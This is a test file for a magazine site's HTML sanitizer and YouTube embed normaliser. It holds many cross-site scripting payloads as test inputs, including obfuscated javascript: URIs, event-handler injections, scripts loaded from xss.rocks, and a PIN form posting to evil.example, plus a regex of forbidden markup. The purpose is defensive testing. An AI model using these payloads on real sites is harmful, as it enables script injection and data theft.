import { describe, expect, it } from 'vitest';
import {
  ARTICLE_BLOCK_CLASSES,
  ARTICLE_BLOCK_ELEMENTS,
  ARTICLE_ELEMENTS,
  ARTICLE_INLINE_CLASSES,
} from '../../../shared/magazine/article-formats';
import { articlePlainText, readingMinutes, sanitizeArticleHtml as clean } from './sanitize-html';
import { videoEmbedUrl } from '../../../shared/magazine/video-embed';

const EMBED = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ';

/** What no sanitized article may contain, whatever went in. */
function expectHarmless(html: string) {
  const out = clean(html);
  expect(out).not.toMatch(
    /<script|<style|<object|<embed|<svg|<math|<form|<input|<base|<meta|<link/i,
  );
  expect(out).not.toMatch(/\son\w+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|livescript:/i);
  expect(out).not.toMatch(/data:/i);
  expect(out).not.toMatch(/\sstyle\s*=/i);
  for (const src of out.matchAll(/<iframe[^>]*\ssrc="([^"]*)"/g)) {
    expect(src[1]!.startsWith('https://www.youtube-nocookie.com/embed/')).toBe(true);
  }
  return out;
}

describe('sanitizeArticleHtml', () => {
  it("keeps the editor's formatting", () => {
    const html =
      '<h2 class="article-align-center">Heading</h2><p class="article-indent-2">A <strong>bold</strong>, <em>italic</em>, <u>underlined</u>, <s>struck</s> and <code>coded</code> line in <span class="article-font-serif article-size-large">serif</span>.</p><hr /><blockquote><p>Quote</p></blockquote><ol start="3"><li>One</li></ol><ul><li>Two</li></ul><pre><code>code()</code></pre><p><a href="/moneyMap">Plan a goal</a><br />next</p><figure><img src="/magazine/cover.svg" alt="Cover" loading="lazy" /><figcaption>Cover</figcaption></figure><table><thead><tr><th>Month</th></tr></thead><tbody><tr><td>April</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it('keeps every element of the shared list, and each class on the elements it belongs to', () => {
    const inline = ARTICLE_INLINE_CLASSES.map((name) => `<span class="${name}">x</span>`).join('');
    const block = ARTICLE_BLOCK_ELEMENTS.flatMap((tag) =>
      ARTICLE_BLOCK_CLASSES.map((name) => `<${tag} class="${name}">x</${tag}>`),
    ).join('');
    const out = clean(`<p>${inline}</p>${block}`);
    expect(out).toBe(`<p>${inline}</p>${block}`);
    const allElements = clean(
      `<h2>a</h2><h3>b</h3><h4>c</h4><p><strong>d</strong><em>e</em><u>f</u><s>g</s><code>h</code><br /><span class="article-size-small">i</span><a href="/x">j</a></p><hr /><blockquote><p>k</p></blockquote><pre><code>l</code></pre><ul><li>m</li></ul><ol><li>n</li></ol><figure><img src="/a.webp" alt="o" /><figcaption>p</figcaption></figure><figure><iframe src="${EMBED}"></iframe></figure><table><thead><tr><th>q</th></tr></thead><tbody><tr><td>r</td></tr></tbody></table>`,
    );
    for (const tag of ARTICLE_ELEMENTS) expect(allElements, tag).toContain(`<${tag}`);
  });

  it('writes older spellings of a format the list way', () => {
    expect(
      clean(
        '<h1>T</h1><p><b>b</b> <i>i</i> <strike>s</strike> <del>d</del></p><h5>5</h5><h6>6</h6>',
      ),
    ).toBe('<h2>T</h2><p><strong>b</strong> <em>i</em> <s>s</s> <s>d</s></p><h4>5</h4><h4>6</h4>');
  });

  it('removes scripts with their text, and event handlers', () => {
    expect(clean('<p onclick="steal()" onmouseover=x>Hi<script>alert(1)</script></p>')).toBe(
      '<p>Hi</p>',
    );
    expect(clean('<body onload=alert(1)><p>x</p>')).toBe('<p>x</p>');
    expect(clean('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')).toBe(
      '',
    );
  });

  it.each([
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example/">x</a>',
  ])('drops a dangerous link target: %s', (html) => {
    const out = expectHarmless(html);
    expect(out).toBe('<a>x</a>');
  });

  it.each([
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
    '<iframe src=http://xss.rocks/scriptlet.html <',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml">',
    '<form action="https://evil.example"><input name="pin"><button>Go</button></form>',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>',
    '<p style="display:none">hidden</p><p style="visibility:hidden;opacity:0">gone</p>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://user@www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
    '<x onclick=alert(1)>text</x>',
    '<a href="https://ok.example" onfocus="alert(1)" autofocus>x</a>',
    '<p><!--<img src=x onerror=alert(1)>--></p>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<template><img src=x onerror=alert(1)></template>',
  ])('leaves nothing that can run, hide or frame: %s', (html) => {
    expectHarmless(html);
  });

  it('keeps the text of a disallowed wrapper, not its tag', () => {
    expect(clean('<section><article><p>Kept</p></article></section>')).toBe('<p>Kept</p>');
  });

  it("keeps no styles, and only the list's classes on the elements they belong to", () => {
    expect(
      clean(
        '<p style="text-align:right;color:red" class="article-align-right ql-align-right sr-only">x</p>',
      ),
    ).toBe('<p class="article-align-right">x</p>');
    // Alignment is a paragraph's, font a run of text's: each on the other's element is dropped.
    expect(
      clean('<span class="article-align-center">a</span><p class="article-font-serif">b</p>'),
    ).toBe('<span>a</span><p>b</p>');
    expect(clean('<li class="ql-indent-1">One</li><pre class="ql-syntax">c</pre>')).toBe(
      '<li>One</li><pre>c</pre>',
    );
    expect(clean('<div class="article-indent-1"><p>Kept</p></div>')).toBe('<p>Kept</p>');
  });

  it('drops data: images, raster ones too (decision 36: pasted pictures are uploaded)', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart">')).toBe('');
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">')).toBe('');
    expect(clean('<img alt="no source">')).toBe('');
  });

  it("keeps the video host's embeds and rewrites YouTube's to it", () => {
    const expected = `<iframe src="${EMBED}" title="Video" width="560" height="315" allow="accelerometer; encrypted-media; gyroscope; picture-in-picture" allowfullscreen loading="lazy" referrerpolicy="strict-origin-when-cross-origin"></iframe>`;
    for (const src of [
      EMBED,
      'https://www.youtube.com/embed/dQw4w9WgXcQ',
      'https://youtube.com/embed/dQw4w9WgXcQ?autoplay=1&mute=1',
      'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
      'https://youtu.be/dQw4w9WgXcQ',
      '//www.youtube.com/embed/dQw4w9WgXcQ',
    ]) {
      expect(clean(`<iframe src="${src}" onload="x()" style="display:none"></iframe>`), src).toBe(
        expected,
      );
    }
    expect(
      clean(`<iframe src="${EMBED}" title="SIPs explained" width="640" height="360"></iframe>`),
    ).toContain('title="SIPs explained" width="640" height="360"');
  });

  it('marks links to other sites noopener noreferrer, and leaves the site own links alone', () => {
    expect(clean('<a href="https://example.com/x" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/x" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(clean('<a href="http://example.com">x</a>')).toBe(
      '<a href="http://example.com" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="/faq" rel="opener" target="_top">FAQ</a>')).toBe(
      '<a href="/faq">FAQ</a>',
    );
    expect(clean('<a href="mailto:help@example.com">mail</a>')).toBe(
      '<a href="mailto:help@example.com">mail</a>',
    );
  });

  it('is stable: cleaning clean HTML changes nothing', () => {
    const once = clean(
      `<p>Tom &amp; Jerry &lt;3</p><iframe src="https://youtu.be/dQw4w9WgXcQ"></iframe><a href="https://e.com">e</a><img src="/a.svg" alt="">`,
    );
    expect(clean(once)).toBe(once);
  });
});

describe('videoEmbedUrl', () => {
  it('keeps a start time only', () => {
    expect(videoEmbedUrl('https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s&list=x')).toBe(
      `${EMBED}?start=42`,
    );
  });

  it.each([
    'https://www.youtube.com/embed/short',
    'https://www.youtube.com/embed/dQw4w9WgXcQ/extra',
    'https://www.youtube.com/embed/dQw4w9WgXc"Q',
    'https://vimeo.com/123',
    'ftp://www.youtube.com/embed/dQw4w9WgXcQ',
    'https://www.youtube.com:8443/embed/dQw4w9WgXcQ',
    'not a url',
  ])('refuses %s', (src) => {
    expect(videoEmbedUrl(src)).toBeNull();
  });
});

describe('articlePlainText and readingMinutes', () => {
  it('separates blocks, decodes entities and drops scripts', () => {
    expect(
      articlePlainText(
        '<h2>Tax</h2><p>Tom &amp; Jerry &lt;3 &quot;q&quot;</p><ul><li>a</li><li>b</li></ul>',
      ),
    ).toBe('Tax Tom & Jerry <3 "q" a b');
    expect(articlePlainText('<p>x\u0002y\u0003z</p>')).toBe('x y z');
  });

  it('counts 200 words a minute, at least one', () => {
    expect(readingMinutes('')).toBe(1);
    expect(readingMinutes('word '.repeat(200))).toBe(1);
    expect(readingMinutes('word '.repeat(201))).toBe(2);
  });
});
